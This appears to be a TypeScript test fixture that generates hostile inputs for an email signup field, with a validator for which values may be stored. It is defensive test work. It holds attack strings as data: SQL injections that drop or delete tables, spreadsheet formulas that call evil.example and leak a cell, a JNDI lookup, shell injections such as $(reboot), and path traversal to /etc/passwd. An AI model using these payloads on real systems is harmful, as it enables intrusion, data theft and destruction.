/** Values for the email field that nobody means well with. */
export interface HostileClass {
  /** What it tries. */
  readonly about: string;
  readonly values: readonly unknown[];
}

const PER_CLASS = 500;

/** Round and round; the lists have different lengths, so that their items meet in many ways. */
const pick = (items: readonly string[], index: number): string => items[index % items.length] ?? '';

/** Puts the piece into the text, at another place for each index. */
const insert = (text: string, piece: string, index: number): string => {
  const at = index % (text.length + 1);
  return text.slice(0, at) + piece + text.slice(at);
};

/** An address that would be taken, and that no other value has. */
const plain = (id: string, index: number): string => `${id}.${index}@example.com`;

const points = (from: number, to: number): string[] =>
  Array.from({length: to - from + 1}, (_, offset) => String.fromCodePoint(from + offset));

const SQL = [
  "'; drop table newsletter_subscriptions;--",
  "' or '1'='1",
  "'or'1'='1'--",
  '" or ""="',
  "');delete from contact_messages;--",
  "'||(select version())||'",
  "'||pg_sleep(10)--",
  '$$;select 1;$$',
  "\\'; copy (select 1) to program 'id';--",
  "'union/**/select/**/null--",
  '1;select/**/pg_read_file',
  "e'\\x27",
  '/*!50000select*/',
  "admin'--",
];
const FORMULAS = [
  "=cmd|'/c calc'!A1",
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '＠SUM',
  '";=1+1;"',
  "'=1+1",
  '=',
  '+tag',
  '-dash',
];
const BREAKS = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '%0d%0a', '\\r\\n'];
const MAIL_HEADERS = [
  'Bcc: all@example.com',
  'To: all@example.com',
  'Content-Type: text/html',
  'Subject: hello',
  '\r\nDATA',
  'RCPT TO:<all@example.com>',
  '.\r\n',
];
const CONTROLS = [...points(0x01, 0x1f), ...points(0x7f, 0x9f)];
const DIRECTIONS = [
  ...points(0x200b, 0x200f),
  ...points(0x202a, 0x202e),
  ...points(0x2060, 0x2064),
  ...points(0x2066, 0x2069),
  '\u00ad',
  '\u061c',
  '\u180e',
  '\ufeff',
];
/**
 * Letters of other scripts that look like ours. The last two become ours in lower case: the Kelvin
 * sign k and the dotted capital I i, and with them somebody else's address.
 */
const LOOKALIKES = [
  ...'аеорсухіјѕԁӏԛԝАВЕКМНОРСТХαινοτυΑΒΕΖΗΙΜΝΟΡΤΧａｂｃｅｏｐ＠．ⅼℯ𝐚𝖻𝘤ɑɡ',
  '\u212a',
  '\u0130',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%=7*7%>',
  '${jndi:ldap://evil.example/a}',
  '%7b%7b7*7%7d%7d',
  '[[${7*7}]]',
  '&lt;b&gt;',
  '</textarea>',
  '`id`',
  '$(reboot)',
  '|id',
  ';ls',
  '../../etc/passwd',
  '..\\..\\windows',
  '%00',
  '%s%n%x',
  '*)(uid=*',
  '||true',
];
const ODD_FORMS = [
  '"quoted local"@example.com',
  'a(comment)@example.com',
  'a@[127.0.0.1]',
  'a@[IPv6:::1]',
  '@a.example,@b.example:c@example.com',
  'a@b@example.com',
  'a%b@example.com',
  'a!b@example.com',
  'Name <a@example.com>',
  '<a@example.com>',
  'mailto:a@example.com',
  'a@example.com?bcc=b@example.com',
  'a@localhost',
  'a@com',
  '@example.com',
  'a@',
  'a',
  '@',
  '',
  ' ',
];
const LISTS = [',', ';', ' ', ', ', ' ; ', '\t', '|', '/', '&', '\u3001', '\uff0c'];
const DOMAINS = [
  '-example.com',
  'example-.com',
  'example..com',
  '.example.com',
  'example.com.',
  'exa_mple.com',
  'exam ple.com',
  'example.com:25',
  'example.com/x',
  'example,com',
  'xn--.com-',
  'bücher.example',
  '127.0.0.1',
  '0x7f.1',
  'example.c-',
  'example.-om',
  `${'d'.repeat(64)}.com`,
  'a.b.c.d.e.f.example.com',
  'xn--bcher-kva.example',
];
const ACCENTS = '\u0300\u0316\u035c'.repeat(20);
const EMOJI = ['😀', '👩‍⚕️', '🏳️‍🌈', '🇨🇦', 'e\u0301', `z${ACCENTS}`, '\u{e0001}'];
const HALVES = ['\ud800', '\udbff', '\udc00', '\udfff'];
const SPACES = [' ', '  ', '\u00a0', '\u2003', '\u3000', '\t', '\n', '\u2009', '\u202f'];

/** One of all the characters of Unicode, another for each number. */
const anyCharacter = (number: number): string => {
  const point = 0xa0 + ((number * 2_654_435_761) % 0x10_ff00);
  return point >= 0xd800 && point <= 0xdfff ? 'é' : String.fromCodePoint(point);
};

const CLASSES: readonly (readonly [about: string, make: (n: number) => unknown])[] = [
  ['SQL in the address', (n) => pick(SQL, n) + plain('sql', n)],
  ['SQL behind an address', (n) => plain('sqla', n) + pick(SQL, n)],
  ['spreadsheet formulas (CSV injection)', (n) => pick(FORMULAS, n) + plain('csv', n)],
  [
    'line breaks and mail headers',
    (n) => plain('head', n) + pick(BREAKS, n) + pick(MAIL_HEADERS, n),
  ],
  ['control characters, each somewhere', (n) => insert(plain('ctl', n), pick(CONTROLS, n), n)],
  ['a NUL somewhere', (n) => insert(plain('nul', n), '\u0000', n)],
  [
    'from one letter too long to 100,000',
    (n) => {
      const longest = n % 50 === 0 ? 100_000 : 600 + n * 11;
      return `${'a'.repeat((n < 250 ? 255 + n : longest) - 12)}@example.com`;
    },
  ],
  [
    'local parts around 64 and domain labels around 63 letters',
    (n) => {
      const domain = 'd'.repeat(61 + (Math.floor(n / 5) % 5));
      return `${`lab.${n}`.padEnd(62 + (n % 5), 'x')}@${domain}.example`;
    },
  ],
  [
    'letters that look like others (homographs)',
    (n) => insert(plain('look', n), pick(LOOKALIKES, n), n),
  ],
  [
    'marks that turn the text round or can’t be seen',
    (n) => insert(plain('dir', n), pick(DIRECTIONS, n), n),
  ],
  [
    'characters of all of Unicode',
    (n) => {
      const characters = Array.from({length: 1 + (n % 12)}, (_, at) => anyCharacter(n * 12 + at));
      const text = characters.join('');
      return n % 2 === 0 ? `${text}@example.com` : insert(plain('uni', n), text, n);
    },
  ],
  ['emoji, flags and towers of accents', (n) => insert(plain('emo', n), pick(EMOJI, n), n)],
  ['half characters (lone surrogates)', (n) => insert(plain('half', n), pick(HALVES, n), n)],
  ['HTML, scripts, templates, shell and paths', (n) => pick(MARKUP, n) + plain('mark', n)],
  [
    'forms that mail programs know and lists must not',
    (n) => pick(ODD_FORMS, n).replace('a', `odd.${n}`),
  ],
  [
    'several addresses in one field',
    (n) =>
      Array.from({length: 2 + (n % 3)}, (_, part) => plain(`sev${part}`, n)).join(pick(LISTS, n)),
  ],
  ['domains that are none, and some that are', (n) => `dom.${n}@${pick(DOMAINS, n)}`],
  [
    'spaces of all kinds, around and inside',
    (n) => {
      const address = plain('spc', n);
      const space = pick(SPACES, Math.floor(n / 3));
      return [space + address + space, address + space, insert(address, space, n)][n % 3];
    },
  ],
  [
    'an address, and the same in capitals and spaces',
    (n) => (n % 2 === 0 ? plain('two', n) : `  ${plain('two', n - 1).toUpperCase()} `),
  ],
  [
    'other kinds of JSON: numbers, lists, objects, nothing',
    (n) =>
      [
        ...[null, true, n, -n / 7, [], {}, '\\', `"${plain('typ', n)}"`, {toString: 'x'}],
        ...[[plain('typ', n)], {email: plain('typ', n)}, [[[plain('typ', n)]]]],
      ][n % 12],
  ],
];

/** 10,000 values of twenty classes, the same at every run. @param everyNth 1: all of them */
export const hostileEmails = (everyNth: number): readonly HostileClass[] =>
  CLASSES.map(([about, make]) => ({
    about,
    values: Array.from({length: Math.ceil(PER_CLASS / everyNth)}, (_, at) => make(at * everyNth)),
  }));

// Some values are addresses after all, odd as they look: RFC 5322 and the HTML Standard allow
// `=cmd|'/c@example.com`. Those have to be stored as the text they are, and to do no harm wherever
// they are shown or exported.
//
// HTML Standard, 'valid e-mail address', written again here on purpose: the table's own rule is
// what is being tested. A dot in the domain is the table's addition; the lengths are RFC 5321's.
const VALID =
  /^[a-z0-9.!#$%&'*+/=?^_`{|}~-]{1,64}@(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?$/;

/** True for what may stand in the table: an address as it would be stored. */
export const isStorable = (stored: string): boolean =>
  stored.length >= 6 && stored.length <= 254 && VALID.test(stored);

/** What must become of the values: those that must be stored, as they must be, each once. */
export const storedOf = (values: readonly unknown[]): ReadonlySet<string> =>
  new Set(
    values
      .filter((value) => typeof value === 'string')
      .map((text) =>
        text.replace(/^ +| +$/g, '').replace(/[A-Z]/g, (letter) => letter.toLowerCase()),
      )
      .filter(isStorable),
  );
